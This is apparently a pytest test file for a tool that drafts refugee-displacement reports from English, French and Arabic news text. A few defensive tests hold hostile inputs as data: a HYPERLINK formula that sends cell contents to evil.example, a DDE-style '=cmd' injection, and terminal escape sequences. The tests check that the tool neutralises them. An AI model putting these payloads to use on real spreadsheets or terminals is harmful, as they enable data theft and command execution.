"""Tests of ``idpmap extract`` drafts as a user maps them: review status, dates and publishers read from the text,
what is left out, finer places, several articles, French and Arabic, safe cells and terminals, linear time.

Every text here was written for these tests (facts in the style of agency copy, no sentence of a real article).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import time

import pytest
from click.testing import CliRunner

from gazetteer import Gazetteer
from mapper.cli import cli
from mapper.extract import date_articles, extract_reports, format_review, read_article
from mapper.spreadsheet import spreadsheet_safe

from .test_extract import PLACES, _place

MORE_PLACES = PLACES + [
    _place("sy-ariha", "Ariha", "town", 35.81, 36.61, admin3="SY070100", alt=("أريحا",)),
    _place("sy-binnish", "Binnish", "town", 35.95, 36.71, admin3="SY070001", alt=("بنش",)),
    _place("region-nw-syria", "northwest Syria", "region", 36.0, 36.6, alt=("northwestern Syria", "شمال غرب سوريا")),
    _place("sy-shbat", "Shbat", "village", 35.1, 36.9, admin3="SY070205", alt=("شباط",)),  # a village named February
]


@pytest.fixture(scope="module")
def gaz():
    return Gazetteer(MORE_PLACES)


def _rows(text, gaz, *, published="2020-02-12", **kwargs):
    return extract_reports(read_article(text, name="t", published=published, **kwargs), gazetteer=gaz).reports


def _csv(text):
    return list(csv.DictReader(io.StringIO(text)))


# --------------------------------------------------------------------------------------------- review status

def test_rows_a_map_can_use_are_ok_the_others_say_why(gaz):
    rows = _rows("Some 4,000 people fled Ariha for Atme on Monday, OCHA said. Thousands more fled Saraqeb. "
                 "About 300 families fled last week.", gaz)
    by_figure = {r.figure or r.vague: r for r in rows}
    assert (by_figure["4000"].status, by_figure["4000"].review_note) == ("ok", "")
    assert by_figure["thousands"].status == "needs_review"
    assert "vague figure 'thousands': no number" in by_figure["thousands"].review_note
    assert by_figure["300"].status == "needs_review" and "no place named" in by_figure["300"].review_note



def test_words_that_only_look_like_place_names_hold_nothing(gaz):
    extraction = extract_reports(read_article("As aid ran short, 300 people fled Ariha on Monday, OCHA said. Kafr Tan "
                                              "residents stayed.\n", published="2020-02-12"), gazetteer=gaz)
    row, = extraction.reports
    assert (row.origin, row.status) == ("Ariha", "ok")
    assert extraction.unplaced == []  # not "As" (two letters), not "Kafr Tan" (only like the two Kafr Tin)
    cued, = extract_reports(read_article("Some 300 people fled from Kafr Tan on Monday.\n", published="2020-02-12"),
                            gazetteer=gaz).unplaced
    assert (cued.name, cued.reason) == ("Kafr Tan", "not in the gazetteer")  # a place cue still keeps it


def test_a_name_not_placed_holds_the_row_for_review(gaz):
    row, = _rows("About 900 people fled to Kafr Zuhur from Ariha on Sunday.", gaz)
    assert row.status == "needs_review" and "could not place 'Kafr Zuhur'" in row.review_note


# ------------------------------------------------------------------------------------ publication, publisher

@pytest.mark.parametrize("top, expected", [
    ("Published on 3 March 2020\n", dt.date(2020, 3, 3)),
    ("By Jane Writer | March 3, 2020\n", dt.date(2020, 3, 3)),
    ("Updated: 2020-03-03\n", dt.date(2020, 3, 3)),
    ("Tuesday, 3 March 2020\n", dt.date(2020, 3, 3)),
])
def test_the_publication_date_stated_near_the_top(top, expected):
    article = read_article(top + "\nSome 2,000 people fled Ariha this week.\n")
    assert (article.published, article.published_how) == (expected, "stated")


def test_the_day_the_text_dates_itself():
    article = read_article("Hundreds fled Binnish yesterday (March 2), after strikes that began in February 2020.\n")
    assert (article.published, article.published_how) == (dt.date(2020, 3, 3), "anchored")
    assert article.publication.year_from == "the year 2020 named with another date"
    # A year alone names some other event: it does not date the story.
    assert read_article("Hundreds fled Binnish yesterday (March 2), after a truce agreed in 2018.\n").published is None


def test_a_wire_dateline_dates_the_story_and_names_the_agency():
    article = read_article("BEIRUT, Feb 11 (Reuters) - Some 2,000 people fled Ariha in January 2020, aid groups "
                           "said.\n")
    assert (article.published, article.published_how, article.publisher) == (dt.date(2020, 2, 11), "anchored",
                                                                             "Reuters")


def test_an_article_without_a_year_borrows_the_batch_year_when_its_weekdays_agree():
    dated = read_article("3 March 2020\n\nSome 2,000 people fled Ariha.\n", name="a")
    undated = read_article("Monday (March 2): strikes hit Binnish. On Tuesday, 500 people fled Ariha.\n", name="b")
    assert undated.published is None
    a, b = date_articles([dated, undated])
    assert a.published == dt.date(2020, 3, 3)
    assert (b.published, b.published_how) == (dt.date(2020, 3, 3), "estimated")
    wrong_year = read_article("4 March 2021\n\nSome 2,000 people fled Ariha.\n", name="c")
    assert date_articles([wrong_year, undated])[1].published is None  # 2 March 2021 was no Monday



def test_an_estimated_publication_date_keeps_the_days_the_text_allows(gaz, tmp_path):
    dated = "3 March 2020\n\nSome 2,000 people fled Ariha between 1 and 2 March.\n"
    undated = ("Strikes hit Binnish on 2 March 2020. On Tuesday, 500 people fled Ariha. Some 800 people fled Saraqeb "
               "over the past three days, the RCT said.\n")
    _a, b = date_articles([read_article(dated, name="a"), read_article(undated, name="b")])
    assert (b.published, b.published_how) == (dt.date(2020, 3, 3), "estimated")
    assert b.publication.span() == "2020-03-03 to 2020-03-09"  # Tuesday 3 March named within the past week
    tuesday, three_days = extract_reports(b, gazetteer=gaz).reports
    # "On Tuesday" is 3 March whichever of those days the story came out: the row can be mapped.
    assert (tuesday.period_start, tuesday.status) == ("2020-03-03", "ok")
    assert "it allows 2020-03-03 to 2020-03-09" in tuesday.note
    # "over the past three days" moves with the publication day: the draft says so instead of guessing.
    assert three_days.status == "needs_review"
    assert three_days.review_note == ("period counts from a publication date the text does not fix "
                                      "(2020-03-03 to 2020-03-09)")
    (tmp_path / "a.txt").write_text(dated, encoding="utf-8")
    (tmp_path / "b.txt").write_text(undated, encoding="utf-8")
    result = CliRunner().invoke(cli, ["extract", str(tmp_path), "-o", "-"])
    assert result.exit_code == 0, result.output
    rows = {row["report_id"]: row for row in _csv(result.stdout)}
    assert rows["b-002"]["status"] == "needs_review" and "2020-03-03 to 2020-03-09" in rows["b-002"]["review_note"]
    assert "publication date of b estimated from its text: 2020-03-03 to 2020-03-09" in result.stderr



def test_a_period_whose_year_is_only_inferred_needs_review(gaz):
    text = ("Between Dec. 1 and Jan. 19, some 9,000 people fled Ariha for Atme, the UN said on Tuesday. The two "
            "countries signed a truce in 2018.\n")
    assert read_article(text).published is None  # the truce's year does not date the story
    dated = read_article("3 March 2020\n\nSome 2,000 people fled Ariha for Atme between 1 and 2 March, OCHA said.\n",
                         name="a")
    _a, b = date_articles([dated, read_article(text, name="b")])
    assert (b.published, b.publication.year_from) == (dt.date(2020, 1, 21), "the year 2020 of the other articles")
    row, = extract_reports(b, gazetteer=gaz).reports
    assert (row.period_start, row.period_end) == ("2019-12-01", "2020-01-19")
    assert row.status == "needs_review" and row.review_note == (
        "the period's year is inferred (the year 2020 of the other articles): the text does not give it")
    # A period that names its year does not depend on the inferred one.
    row, = _rows("Some 9,000 people fled Ariha for Atme between 1 December 2019 and 19 January 2020, the UN said on "
                 "Tuesday.", gaz, published=None)
    assert (row.status, row.period_start) == ("ok", "2019-12-01")


def test_an_estimate_compares_the_days_named_with_their_years():
    article = read_article("Some 9,000 people fled Ariha from 1 December 2019 to 12 February 2020, OCHA said.\n")
    assert (article.published, article.published_how) == (dt.date(2020, 2, 12), "estimated")
    assert article.publication.span() == "on or after 2020-02-12"  # no weekday bounds it


def test_no_year_is_lent_to_a_text_that_names_no_weekday():
    dated = read_article("3 March 2020\n\nSome 2,000 people fled Ariha.\n", name="a")
    undated = read_article("Some 500 people fled Ariha since 1 March.\n", name="b")
    assert date_articles([dated, undated])[1].published is None


def test_december_and_january_named_without_years_run_over_the_new_year():
    dated = read_article("3 March 2020\n\nSome 2,000 people fled Ariha.\n", name="a")
    text = "Some 9,000 people fled Ariha between 20 December and 5 January, the UN said on Wednesday.\n"
    _a, b = date_articles([dated, read_article(text, name="b")])
    assert b.published == dt.date(2020, 1, 8)  # the first Wednesday from 5 January on, in the year lent


def test_no_date_is_guessed():
    assert read_article("Some 2,000 people fled Ariha on Tuesday.\n").published is None


@pytest.mark.parametrize("text, publisher", [
    ("Support The Daily Example!\n\nSome 2,000 people fled Ariha.\n", "The Daily Example"),
    ("Some 2,000 people fled Ariha. Example Post, Agencies\n", "Example Post"),
    ("ALEPPO (AFP) - Some 2,000 people fled Ariha.\n", "AFP"),
])
def test_the_publisher_from_a_masthead_a_sign_off_or_a_wire_credit(text, publisher):
    assert read_article(text).publisher == publisher


def test_the_publication_date_found_in_the_text_is_noted_on_relative_periods(gaz):
    row, = extract_reports(read_article("Hundreds fled Binnish yesterday (March 2), as in February 2020. Some 600 "
                                        "people fled Ariha over the past three days, OCHA said.\n"),
                           gazetteer=gaz).reports[1:]
    assert (row.period_start, row.period_end) == ("2020-02-29", "2020-03-03")
    assert "publication date 2020-03-03 anchored from the text" in row.note


# ----------------------------------------------------------------------------------------- what is left out

def test_captions_are_not_reports(gaz):
    text = ("Families fleeing Ariha on a truck. [Getty]\n"
            "Some 5,000 people fled Ariha over the past week, OCHA said.\n"
            "A family flees Binnish after 40 people fled on Monday. JOHN DOE / AFP\n")
    assert [r.figure for r in _rows(text, gaz)] == ["5000"]


def test_a_headline_rounding_a_body_figure_is_one_row(gaz):
    text = "Over 50,000 Flee Ariha In Week Of Strikes\n\nSome 52,500 people fled Ariha this week, OCHA said.\n"
    row, = _rows(text, gaz)
    assert row.figure == "52500" and "headline says" in row.note


def test_refugees_abroad_and_war_wide_totals_are_not_reports(gaz):
    text = ("Nine years of war in Syria have killed 380,000 people and displaced millions, including more than "
            "5 million as refugees to neighbouring countries.\n"
            "Some 3,000 people fled Binnish on Monday.\n")
    assert [r.figure or r.vague for r in _rows(text, gaz)] == ["3000"]


def test_a_toll_with_no_place_is_not_a_report(gaz):
    text = "Dec. 9: Two children killed in air strikes.\nDec. 10: Four civilians killed in Hish.\n"
    rows = _rows(text, gaz, published="2019-12-12")
    assert [(r.figure, r.origin) for r in rows] == [("4", "Hish")]


def test_counted_towns_and_hospitals_are_not_people(gaz):
    text = "Forces seized 14 villages and hit 3 hospitals near Ariha, where 800 people fled on Monday."
    assert [r.figure for r in _rows(text, gaz)] == ["800"]


# --------------------------------------------------------------------------------------------------- places

def test_the_finest_place_named_in_the_sentences_that_follow(gaz):
    text = ("At least 9,000 people have fled northwestern Syria over the past three days, the RCT said. "
            "The Maarat al-Numan district, east of Idlib city, saw the most families fleeing.\n")
    row, = _rows(text, gaz)
    assert row.origin == "Maarat al-Numan district" and "finer places from the next sentence" in row.note


def test_destinations_listed_around_a_figure(gaz):
    row, = _rows("About 20,000 displaced people are sheltering in Kah, Dana, Kafr Nuran and Atme.", gaz)
    assert row.destination == "Kah;Dana;Kafr Nuran;Atme"


def test_an_origin_named_earlier_in_the_sentence(gaz):
    rows = _rows("An assault on Ariha in January killed 40 civilians and displaced 7,000 people.", gaz)
    assert [(r.kind, r.figure, r.origin) for r in rows] == [("incident", "40", "Ariha"),
                                                             ("displacement", "7000", "Ariha")]


def test_a_place_where_people_took_refuge_is_a_destination(gaz):
    row, = _rows("Fighting neared Atme, where 2,500 people who fled elsewhere in Syria had taken refuge.", gaz)
    assert (row.origin, row.destination) == ("", "Atme")


def test_places_after_towards_are_destinations_and_before_it_origins(gaz):
    row, = _rows("Some 14,000 people fled Maarat al-Numan and villages in southern Idlib towards Idlib city and "
                 "camps along the Turkish border in the past week, OCHA said.", gaz)
    assert (row.origin, row.destination) == ("Maarat al-Numan;southern Idlib",
                                             "Idlib city;camps along the Turkish border")


def test_the_home_of_residents_is_their_origin(gaz):
    row, = _rows("About 6,000 residents of Ariha moved to Dana and Sarmada over the past three days.", gaz)
    assert (row.origin, row.destination) == ("Ariha", "Dana;Sarmada")


def test_a_place_people_arrived_in_is_a_destination(gaz):
    row, = _rows("Most of the 8,000 people who left Saraqib this week arrived in Dana, the local council said.", gaz)
    assert (row.origin, row.destination) == ("Saraqib", "Dana")



def test_camps_listed_among_places_fled_are_drafted_as_destinations_for_review(gaz):
    row, = _rows("Some 14,000 people fled Maarat al-Numan, villages in southern Idlib and camps along the Turkish "
                 "border in the past week, OCHA said.", gaz)
    assert (row.origin, row.destination) == ("Maarat al-Numan;southern Idlib", "camps along the Turkish border")
    assert row.status == "needs_review"
    assert "'camps along the Turkish border' drafted as a destination but the text has it listed among the places " \
           "fled from" in row.review_note


@pytest.mark.parametrize("sentence, origin", [
    ("Some 1,400 people fled camps along the Turkish border in the past week after floods, OCHA said.",
     "camps along the Turkish border"),
    ("Some 1,400 people fled from Atme and camps along the Turkish border in the past week, OCHA said.",
     "Atme;camps along the Turkish border"),
])
def test_camps_people_fled_on_their_own_or_after_from_stay_an_origin(gaz, sentence, origin):
    row, = _rows(sentence, gaz)
    assert (row.origin, row.destination, row.status) == (origin, "", "ok")


def test_finer_places_in_the_next_sentence_keep_a_listed_part_of_a_governorate(gaz):
    text = ("About 9,000 people fled northwestern Syria between 1 and 9 February, OCHA said. Most had left "
            "Maarat al-Numan and towns in southern Idlib, it said.\n")
    row, = _rows(text, gaz)
    assert row.origin == "Maarat al-Numan;southern Idlib"
    text = ("About 9,000 people fled northwestern Syria between 1 and 9 February, OCHA said. Families fleeing "
            "left the Maarat al-Numan district in southern Idlib almost empty.\n")
    row, = _rows(text, gaz)
    assert row.origin == "Maarat al-Numan district"  # southern Idlib only locates the district



@pytest.mark.parametrize("sentence, destination", [
    ("Sarmada received about 7,000 displaced people over the past week, the local council said.", "Sarmada"),
    ("Dana and Atme have received some 900 displaced families since 1 February.", "Dana;Atme"),
])
def test_a_place_that_received_people_is_their_destination(gaz, sentence, destination):
    row, = _rows(sentence, gaz)
    assert (row.kind, row.origin, row.destination) == ("displacement", "", destination)


@pytest.mark.parametrize("sentence", [
    "Dana received 3,000 food baskets on Monday.",
    "The hospital in Dana received 40 wounded people on Monday.",
])
def test_received_things_or_wounded_are_no_arrivals(gaz, sentence):
    assert [r for r in _rows(sentence, gaz) if r.kind == "displacement"] == []


def test_these_locations_received_takes_the_places_of_the_sentence_before(gaz):
    rows = _rows("On 10 February two camps were shelled in Atme. These sites received some 2,600 displaced "
                 "people in the past week.", gaz)
    row = rows[-1]
    assert (row.figure, row.destination) == ("2600", "Atme")
    assert "destination from the previous sentence ('These sites')" in row.note


def test_a_compass_part_of_an_area_the_gazetteer_lacks_is_kept_for_review(gaz):
    extraction = extract_reports(read_article("Some 4,500 people moved to camps in northern Idlib governorate on "
                                              "Monday, OCHA said.\n", published="2020-02-12"), gazetteer=gaz)
    row, = extraction.reports
    # Not the whole governorate: the part named, placed by a reviewer.
    assert (row.destination, row.destination_within, row.status) == ("northern Idlib", "SY07", "needs_review")
    assert "could not place 'northern Idlib'" in row.review_note
    unplaced, = extraction.unplaced
    assert (unplaced.name, unplaced.reason) == ("northern Idlib", "a part of Idlib Governorate the gazetteer does "
                                                                  "not hold")


def test_where_a_speaker_spoke_is_no_destination(gaz):
    row, = _rows('"Some 20,000 people are heading towards our borders," the minister told reporters in Atme.', gaz)
    assert (row.destination, row.status) == ("our borders", "needs_review")
    assert "could not place 'our borders'" in row.review_note


def test_a_part_with_its_own_period_is_a_row_of_its_own(gaz):
    rows = _rows("Strikes have displaced 90,000 people from Ariha and Saraqeb since 1 December, including some "
                 "20,000 people displaced from 1 to 7 February alone, OCHA said.", gaz)
    assert [(r.figure, r.period_start, r.period_end, r.origin) for r in rows] == [
        ("90000", "2019-12-01", "2020-02-12", "Ariha;Saraqeb"), ("20000", "2020-02-01", "2020-02-07", "Ariha;Saraqeb")]
    assert "including 20000 people" in rows[0].note and "places of the figure it is part of" in rows[1].note
    children, = [r for r in _rows("Strikes displaced 9,000 people from Ariha since 1 February, including 4,000 "
                                  "children displaced on Monday.", gaz)]
    assert "including 4000 children" in children.note  # children stay a note on the total


# ------------------------------------------------------------------------------------- several articles

def test_the_same_statement_in_two_articles_is_two_rows_of_one_movement(tmp_path):
    for name, publisher in (("a", "First Daily"), ("b", "Second Post")):
        (tmp_path / f"{name}.txt").write_text(
            f"Publisher: {publisher}\nPublished: 2020-02-12\n\nMore than 40,000 people fled Ariha between 1 and 10 "
            "February, OCHA said.\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["extract", str(tmp_path), "-o", "-"])
    assert result.exit_code == 0, result.output
    a, b = _csv(result.stdout)
    assert (a["report_id"], b["report_id"]) == ("a-001", "b-001")
    assert (a["publisher"], b["publisher"]) == ("First Daily", "Second Post")
    same = ("kind", "figure", "qualifier", "unit", "period_start", "period_end", "origin", "destination", "agency")
    assert [a[k] for k in same] == [b[k] for k in same]


def test_an_empty_folder_is_a_one_line_error(tmp_path):
    result = CliRunner().invoke(cli, ["extract", str(tmp_path)])
    assert result.exit_code == 2 and "no .txt articles" in result.output and "Traceback" not in result.output


# ------------------------------------------------------------------------------------------- French, Arabic

@pytest.mark.parametrize("sentence, figure, qualifier", [
    ("Plus de 586.000 personnes ont fui la région d'Idleb depuis le 1er décembre, selon l'ONU.", "586000",
     "more than"),
    ("Selon l'OSDH, près de 30 000 déplacés ont quitté Saraqeb au cours des trois derniers jours.", "30000",
     "nearly"),
])
def test_french_figures_and_qualifiers(gaz, sentence, figure, qualifier):
    row, = _rows(sentence, gaz, published="2019-12-22")
    assert (row.figure, row.qualifier, row.unit) == (figure, qualifier, "people")
    assert row.period_end == "2019-12-22"


def test_french_places_and_months(gaz):
    row, = _rows("Quelque 14 000 personnes ont fui leurs foyers à Ariha entre le 1er et le 11 février, a indiqué "
                 "le Bureau de la coordination des affaires humanitaires.", gaz)
    assert (row.origin, row.period_start, row.period_end, row.agency) == ("Ariha", "2020-02-01", "2020-02-11",
                                                                         "UN OCHA")


def test_arabic_digits_words_periods_and_places(gaz):
    text = ("قال مكتب الأمم المتحدة لتنسيق الشؤون الإنسانية إن أكثر من ٤٠ ألف شخص نزحوا من أريحا بين 1 و10 شباط. "
            "ولجأ ثلاثة آلاف شخص إلى بنش منذ بداية شباط.")
    article = read_article(text, published="2020-02-12")
    assert article.lang == "ar"
    first, second = extract_reports(article, gazetteer=gaz).reports
    assert (first.figure, first.qualifier, first.origin, first.agency) == ("40000", "more than", "أريحا", "UN OCHA")
    assert (first.period_start, first.period_end) == ("2020-02-01", "2020-02-10")
    assert (second.figure, second.destination, second.period_start) == ("3000", "بنش", "2020-02-01")


def test_an_arabic_statement_of_an_office_of_the_un_with_both_ends_of_its_period(gaz):
    text = "أعلن مكتب تابع للأمم المتحدة أن نحو 9 آلاف شخص نزحوا من أريحا منذ 1 كانون الثاني حتى 9 شباط 2020."
    row, = extract_reports(read_article(text, published="2020-02-12"), gazetteer=gaz).reports
    assert (row.figure, row.agency, row.period_start, row.period_end) == ("9000", "UN", "2020-01-01", "2020-02-09")


# ----------------------------------------------------------------------------- safe cells, safe terminals

@pytest.mark.parametrize("cell, safe", [
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("+1 555", "'+1 555"), ("-bad", "'-bad"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=x", "''=x"), ("-36.5", "-36.5"), ("Atme", "Atme"), ("", ""),
])
def test_spreadsheet_safe_cells(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_the_draft_csv_never_holds_a_formula(tmp_path):
    path = tmp_path / "evil.txt"
    path.write_text("Publisher: =cmd|' /C calc'!A0\nPublished: 2020-02-12\n\n"
                    "- 2,000 people fled Ariha this week, OCHA said.\n", encoding="utf-8")
    result = CliRunner().invoke(cli, ["extract", str(path), "-o", "-"])
    assert result.exit_code == 0, result.output
    row, = _csv(result.stdout)
    assert row["publisher"] == "'=cmd|' /C calc'!A0"
    assert row["quote"].startswith("'- 2,000 people fled")
    assert row["figure"] == "2000" and row["char_start"].isdigit()
    for value in row.values():
        assert value[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_no_terminal_escape_from_an_article_reaches_the_terminal(tmp_path):
    path = tmp_path / "esc.txt"
    path.write_text("Published: 2020-02-12\n\nSome 600 people fled Ariha \x1b[2J\x1b]0;owned\x07on Monday to Kafr "
                    "Zuhur\x1b[31m.\n", encoding="utf-8")
    for args in (["-o", str(tmp_path / "out.csv")], ["--review"], ["-o", "-"]):
        result = CliRunner().invoke(cli, ["extract", str(path), *args])
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.stdout and "\x1b" not in result.stderr and "\x07" not in result.stderr
    review = CliRunner().invoke(cli, ["extract", str(path), "--review"]).stdout
    assert "\\x1b[2J" in review  # shown, not acted on


def test_format_review_shows_control_characters_as_escapes(gaz):
    extraction = extract_reports(read_article("Some 600 people fled Ariha\u202e this week.", name="x\x1b[1m",
                                              published="2020-02-12"), gazetteer=gaz)
    table = format_review([extraction])
    assert "\x1b" not in table and "\u202e" not in table and "\\x1b[1m" in table


# ----------------------------------------------------------------------------------------------- linear time

@pytest.mark.parametrize("unit", ["1 ", "Idlib Saraqib Kafr ", ".", "one thousand and "])
def test_hostile_text_takes_linear_time(gaz, unit):
    small, large = ((unit * (n // len(unit) + 1))[:n] for n in (8_000, 64_000))
    timings = []
    for text in (small, large):
        best = float("inf")
        for _ in range(2):  # the best of two: a busy machine slows one run, not both
            started = time.perf_counter()
            extract_reports(read_article(text, published="2020-02-12"), gazetteer=gaz)
            best = min(best, time.perf_counter() - started)
        timings.append(best)
    # Eight times the text: quadratic patterns took 60 times as long; linear ones about 8 times.
    assert timings[1] < 24 * timings[0] + 1.0


@pytest.mark.parametrize("sentence, figure, kind", [
    ("More than half a million people have been uprooted from Ariha since January, the UN said.", "500000",
     "displacement"),
    ("At least 28,000 civilians were forcibly displaced from Ariha since 1 February.", "28000", "displacement"),
    ("Plus de 27 000 Syriens ont dû fuir Ariha depuis la mi-janvier.", "27000", "displacement"),
    ("Plus de 4 500 personnes ont pu rentrer chez elles à Ariha entre le 3 et le 5 février.", "4500", "displacement"),
    ("More than 70 civilians, including 18 children, were killed in Ariha on Monday.", "70", "incident"),
    ("About 2,000 migrants are moving towards Atme from Ariha this week.", "2000", "displacement"),
])
def test_common_ways_of_writing_a_statement(gaz, sentence, figure, kind):
    rows = _rows(sentence, gaz, lang="fr" if "Syriens" in sentence or "personnes" in sentence else "auto")
    assert [(r.figure, r.kind) for r in rows] == [(figure, kind)]


def test_a_capital_named_as_the_government_is_no_place_of_the_movement(gaz):
    row, = _rows("Some 700 people fled Ariha on Monday to areas taken by Idlib forces.", gaz)
    assert (row.origin, row.destination) == ("Ariha", "")


def test_an_article_that_is_not_utf8_is_a_one_line_error_naming_it(tmp_path):
    path = tmp_path / "latin.txt"
    path.write_bytes("Plus de 3 000 déplacés ont fui Ariha.".encode("latin-1"))
    result = CliRunner().invoke(cli, ["extract", str(path)])
    assert result.exit_code == 2 and "latin.txt" in result.output and "--encoding" in result.output
    assert "Traceback" not in result.output
    again = CliRunner().invoke(cli, ["extract", str(path), "--encoding", "latin-1", "--published", "2020-02-12"])
    assert again.exit_code == 0 and "3000" in again.stdout


def test_arrivals_with_a_destination_only_can_be_mapped(gaz):
    row, = _rows("Some 2,000 people arrived in Atme on Monday, OCHA said.", gaz)
    assert (row.origin, row.destination, row.status) == ("", "Atme", "ok")


def test_an_aside_between_dashes_does_not_hide_the_verb(gaz):
    row, = _rows("More than 60,000 civilians - most of them women and children - have fled Ariha since 1 February.",
                 gaz)
    assert (row.figure, row.origin, row.period_start) == ("60000", "Ariha", "2020-02-01")


def test_arabic_months_and_common_words_are_not_places(gaz):
    row, = _rows("نزح أكثر من 800 ألف شخص في شمال غرب سوريا منذ 1 شباط.", gaz)
    assert (row.figure, row.origin, row.period_start) == ("800000", "شمال غرب سوريا", "2020-02-01")


def test_a_compass_part_of_a_governorate_is_read_as_the_region(gaz):
    row, = _rows("Some 5,000 people fled southern Idlib Governorate on Monday, OCHA said.", gaz)
    assert row.origin == "southern Idlib"


# ------------------------------------------------------------------------------------------------ one pipe

def test_one_pipe_from_a_folder_of_articles_to_a_map(tmp_path):
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text("Publisher: First Daily\nPublished: 2020-02-12\n\nMore than 40,000 people fled Ariha "
                                  "for Atme between 1 and 10 February, OCHA said. Thousands more fled Saraqeb.\n",
                                  encoding="utf-8")
    (folder / "b.txt").write_text("10 February 2020\n\nSome 3,000 people fled Sarmada to Dana on Sunday, the RCT "
                                  "said.\n", encoding="utf-8")
    drafted = CliRunner().invoke(cli, ["extract", str(folder), "-o", "-"])
    assert drafted.exit_code == 0, drafted.output
    assert [row["status"] for row in _csv(drafted.stdout)] == ["ok", "needs_review", "ok"]
    out = tmp_path / "map.html"
    mapped = CliRunner().invoke(cli, ["map", "-", "-o", str(out)], input=drafted.stdout)
    assert mapped.exit_code == 0, mapped.output
    assert out.is_file() and "(2 flows)" in mapped.output
    flows = tmp_path / "flows.geojson"
    built = CliRunner().invoke(cli, ["flows", "-", "-o", str(flows)], input=drafted.stdout)
    assert built.exit_code == 0, built.output
    left_out = json.loads(flows.read_text(encoding="utf-8"))["left_out"]
    assert [(item["what"], item["report_ids"]) for item in left_out] == [("needs review", ["a-002"])]


def test_a_toll_since_an_offensive_began_in_a_month_runs_to_the_publication_date(gaz):
    rows = _rows("The army began an assault on Ariha in April, displacing more than 40,000 people. "
                 "About 3,000 people fled Binnish in January.", gaz, published="2020-02-12")
    by_figure = {r.figure: r for r in rows}
    assert (by_figure["40000"].period_start, by_figure["40000"].period_end) == ("2019-04-01", "2020-02-12")
    assert (by_figure["3000"].period_start, by_figure["3000"].period_end) == ("2020-01-01", "2020-01-31")


# ----------------------------------------------------------------------------------------- roles of places

def test_two_compass_parts_joined_by_and_are_both_destinations(gaz):
    both = Gazetteer(MORE_PLACES + [_place("region-northern-idlib", "northern Idlib", "region", 36.1, 36.6,
                                           parent="adm-sy07")])
    row, = _rows("Between 1 and 10 February, some 6,000 people fled to northern and southern Idlib Governorate, "
                 "OCHA said.", both)
    assert (row.origin, row.destination, row.status) == ("", "northern Idlib;southern Idlib", "ok")
    # Without such an area in the gazetteer, the first part is kept as written, for review.
    row, = _rows("Between 1 and 10 February, some 6,000 people fled Ariha, the majority into central and southern "
                 "Idlib, OCHA said.", gaz)
    assert (row.origin, row.destination) == ("Ariha", "central Idlib;southern Idlib")
    assert row.status == "needs_review" and "could not place 'central Idlib'" in row.review_note


def test_a_list_of_destinations_with_their_figures_keeps_its_role(gaz):
    row, = _rows("Between 1 and 10 February, an estimated 3,000 people were displaced through informal routes "
                 "going to Atme (750), Dana (2,000) and Sarmada (250), OCHA said.", gaz)
    assert (row.origin, row.destination, row.status) == ("", "Atme;Dana;Sarmada", "ok")


def test_people_heading_towards_places_go_there(gaz):
    row, = _rows("So far in February, more than 9,000 people have been displaced, OCHA said. Most of the displaced "
                 "are heading towards already crowded parts of Dana and Atme.", gaz)
    assert (row.origin, row.destination) == ("", "Dana;Atme")


@pytest.mark.parametrize("words", ["pour rejoindre des camps près d'", "vers la ville d'",
                                   "en direction de la ville d'"])
def test_french_words_of_heading_for_a_place_mark_destinations(gaz, words):
    row, = _rows(f"Près de 5.000 personnes ont fui Ariha le 10 février {words}Atme, selon l'Onu.", gaz)
    assert (row.origin, row.destination) == ("Ariha", "Atme")


def test_a_role_read_from_the_verb_alone_holds_the_row_for_review(gaz):
    weak, cued = _rows("About 4,000 people fled on Monday after strikes flattened Ariha, OCHA said. About 2,000 people "
                       "fled to Atme on Sunday, OCHA said.", gaz)
    assert (weak.origin, weak.status, weak.confidence) == ("Ariha", "needs_review", 0.8)
    assert weak.review_note == "'Ariha' drafted as an origin from the verb alone: no word before it says which"
    assert (cued.destination, cued.status) == ("Atme", "ok")
    french, = _rows("Près de 5.000 personnes ont été déplacées le 10 février dans la province d’Idlib, au nord-ouest "
                    "de la Syrie, selon l'Onu.", gaz)
    assert (french.origin, french.status) == ("Idlib", "ok")
